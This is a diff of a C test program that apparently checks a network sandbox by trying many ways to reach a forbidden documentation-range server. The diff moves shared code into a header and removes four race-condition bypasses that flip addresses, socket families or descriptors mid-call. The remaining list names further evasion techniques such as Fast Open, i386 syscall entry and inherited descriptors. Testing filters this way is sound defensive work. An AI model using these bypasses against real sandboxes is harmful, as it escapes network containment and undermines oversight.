@@ -1,34 +1,21 @@
-/* attack NAME: one way to reach the forbidden server, tried for real. Whether it worked is told by the server alone.
- * Exit 0: tried; 77: this kernel does not have it (with a reason). `attack --list` prints the names.
- *
- * Forbidden: 203.0.113.10 and 2001:db8::a, any port. Allowed: 203.0.113.9 and 2001:db8::9 port 80 (TCP and UDP). */
-#include <arpa/inet.h>
+/* attack NAME: one way to reach the forbidden server, tried for real. Whether it worked is told by the server alone. */
+#include "attack.h"
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/if_packet.h>
 #include <linux/io_uring.h>
 #include <net/ethernet.h>
 #include <net/if.h>
-#include <netinet/in.h>
 #include <netinet/ip_icmp.h>
 #include <netinet/tcp.h>
 #include <netinet/udp.h>
 #include <poll.h>
-#include <pthread.h>
 #include <sched.h>
-#include <signal.h>
-#include <stdbool.h>
 #include <stdint.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
-#include <sys/socket.h>
 #include <sys/syscall.h>
-#include <sys/un.h>
 #include <sys/wait.h>
-#include <unistd.h>
 
 #ifndef IPPROTO_MPTCP
 #define IPPROTO_MPTCP 262
@@ -37,15 +24,7 @@
 #define TCP_FASTOPEN_CONNECT 30
 #endif
 
-static struct sockaddr_in bad = { .sin_family = AF_INET }, good = { .sin_family = AF_INET };
 static struct sockaddr_in6 bad6 = { .sin6_family = AF_INET6 }, good6 = { .sin6_family = AF_INET6 }, mapped;
-static const char payload[] = "leak";
-
-static int absent(const char *why)
-{
-	fprintf(stderr, "not here: %s\n", why);
-	return 77;
-}
 
 static void settle(int fd)
 {
@@ -475,132 +454,6 @@ static int multicast(void)
 	return 0;
 }
 
-/* Two threads: one calls, the other changes the address (or swaps the descriptor) meanwhile. */
-static struct {
-	struct sockaddr_in to;
-	volatile bool stop;
-	volatile int fd;
-	int good_fd, bad_fd;
-} race;
-
-static void *flip_address(void *arg)
-{
-	(void)arg;
-	while (!race.stop) {
-		race.to.sin_addr = good.sin_addr;
-		race.to.sin_addr = bad.sin_addr;
-	}
-	return NULL;
-}
-
-static long tries(long fallback)
-{
-	return getenv("TRIES") ? atol(getenv("TRIES")) : fallback;
-}
-
-static int race_address(void)
-{
-	pthread_t other;
-
-	race.to = good;
-	pthread_create(&other, NULL, flip_address, NULL);
-	for (long i = tries(20000); i > 0; i--) {
-		int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
-		struct linger now = { 1, 0 };
-
-		setsockopt(s, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
-		connect(s, (struct sockaddr *)&race.to, sizeof(race.to));
-		close(s);
-	}
-	race.stop = true;
-	pthread_join(other, NULL);
-	return 0;
-}
-
-static int race_sendto(void)
-{
-	int s = socket(AF_INET, SOCK_DGRAM, 0);
-	pthread_t other;
-
-	race.to = good;
-	pthread_create(&other, NULL, flip_address, NULL);
-	for (long i = tries(20000); i > 0; i--)
-		sendto(s, payload, sizeof(payload), MSG_DONTWAIT, (struct sockaddr *)&race.to, sizeof(race.to));
-	race.stop = true;
-	pthread_join(other, NULL);
-	return 0;
-}
-
-/* UNIX_PATH: a listener of the host's. Each call says AF_INET for long enough to look harmless. */
-static int race_family(void)
-{
-	static union {
-		struct sockaddr_un un;
-		struct sockaddr_in in;
-	} both;
-	const char *path = getenv("UNIX_PATH");
-	pid_t flipper;
-	volatile short *family;
-	long reached = 0;
-
-	if (!path)
-		return absent("UNIX_PATH");
-	family = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
-	both.un.sun_family = AF_UNIX;
-	snprintf(both.un.sun_path, sizeof(both.un.sun_path), "%s", path);
-	memcpy((void *)family, &both, sizeof(both.un));
-	flipper = fork();
-	if (flipper == 0)
-		for (;;) {
-			*family = AF_INET;
-			*family = AF_UNIX;
-		}
-	for (long i = tries(20000); i > 0; i--) {
-		int s = socket(AF_UNIX, SOCK_STREAM, 0);
-
-		reached += connect(s, (struct sockaddr *)family, sizeof(both.un)) == 0;
-		close(s);
-	}
-	kill(flipper, SIGKILL);
-	waitpid(flipper, NULL, 0);
-	printf("reached %ld\n", reached);
-	return 0;
-}
-
-static void *swap_descriptor(void *arg)
-{
-	(void)arg;
-	while (!race.stop) {
-		dup2(race.bad_fd, race.fd);
-		dup2(race.good_fd, race.fd);
-	}
-	return NULL;
-}
-
-/* The descriptor is a TCP socket when it is looked at and a unix socket when it is used. */
-static int race_descriptor(void)
-{
-	struct sockaddr_un un = { .sun_family = AF_UNIX };
-	const char *path = getenv("UNIX_PATH");
-	long reached = 0;
-	pthread_t other;
-
-	if (!path)
-		return absent("UNIX_PATH");
-	snprintf(un.sun_path, sizeof(un.sun_path), "%s", path);
-	race.good_fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
-	race.bad_fd = socket(AF_UNIX, SOCK_STREAM, 0);
-	race.fd = dup(race.good_fd);
-	pthread_create(&other, NULL, swap_descriptor, NULL);
-	for (long i = tries(20000); i > 0; i--)
-		if (connect(race.fd, (struct sockaddr *)&un, sizeof(un)) == 0)
-			reached++;
-	race.stop = true;
-	pthread_join(other, NULL);
-	printf("reached %ld\n", reached);
-	return 0;
-}
-
 /* Every descriptor that came in is asked to carry something to the forbidden server. */
 static int inherited(void)
 {
@@ -697,10 +550,7 @@ static int families(void)
 	return 0;
 }
 
-static const struct {
-	const char *name;
-	int (*run)(void);
-} attacks[] = {
+static const struct attack attacks[] = {
 	{ "tcp", tcp }, { "tcp-blocking", tcp_blocking }, { "tcp6", tcp6 }, { "tcp-mapped", tcp_mapped },
 	{ "odd-lengths", odd_lengths }, { "int-high-half", int_high_half }, { "tfo-sendto", tfo_sendto },
 	{ "tfo-sendmsg", tfo_sendmsg }, { "tfo-sendmmsg", tfo_sendmmsg }, { "tfo-connect", tfo_connect },
@@ -712,27 +562,17 @@ static const struct {
 #ifdef __x86_64__
 	{ "i386", i386_entry }, { "x32", x32_entry },
 #endif
-	{ "multicast", multicast }, { "race-address", race_address }, { "race-sendto", race_sendto },
-	{ "race-family", race_family }, { "race-descriptor", race_descriptor }, { "inherited", inherited },
+	{ "multicast", multicast }, { "inherited", inherited },
 	{ "namespaces", namespaces }, { "flood", flood }, { "full-table", full_table }, { "families", families },
+	{ NULL, NULL },
 };
 
 int main(int argc, char **argv)
 {
-	bad.sin_port = good.sin_port = bad6.sin6_port = good6.sin6_port = htons(80);
-	inet_pton(AF_INET, "203.0.113.10", &bad.sin_addr);
-	inet_pton(AF_INET, "203.0.113.9", &good.sin_addr);
+	bad6.sin6_port = good6.sin6_port = htons(80);
 	inet_pton(AF_INET6, "2001:db8::a", &bad6.sin6_addr);
 	inet_pton(AF_INET6, "2001:db8::9", &good6.sin6_addr);
 	mapped = bad6;
 	inet_pton(AF_INET6, "::ffff:203.0.113.10", &mapped.sin6_addr);
-	signal(SIGPIPE, SIG_IGN);
-	setvbuf(stdout, NULL, _IOLBF, 0);
-	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
-		if (argc > 1 && strcmp(argv[1], "--list") == 0)
-			puts(attacks[i].name);
-		else if (argc > 1 && strcmp(argv[1], attacks[i].name) == 0)
-			return attacks[i].run();
-	}
-	return argc > 1 && strcmp(argv[1], "--list") == 0 ? 0 : 2;
+	return attack_main(argc, argv, attacks);
 }
